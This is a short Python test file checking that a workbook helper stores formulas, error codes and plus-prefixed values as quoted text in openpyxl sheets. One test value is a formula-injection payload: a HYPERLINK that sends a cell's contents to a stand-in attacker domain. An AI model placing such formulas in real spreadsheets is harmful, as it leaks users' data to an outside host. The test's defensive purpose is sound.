from __future__ import annotations

import io

import openpyxl
import pytest

from competition.workbooks import text_row


@pytest.mark.parametrize("write_only", [False, True])
def test_text_row_keeps_formulas_and_error_codes_as_text(write_only):
    book = openpyxl.Workbook(write_only=write_only)
    sheet = book.create_sheet("A")
    values = ['=HYPERLINK("https://evil.example/?x="&B2,"Kliknij")', "#N/A", "+48", 7]

    sheet.append(text_row(sheet, values))

    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["A"].iter_rows())
    assert [c.value for c in cells] == values
    assert [c.data_type for c in cells[:4]] == ["s", "s", "s", "n"]
    assert cells[0].quotePrefix and cells[2].quotePrefix and not cells[1].quotePrefix
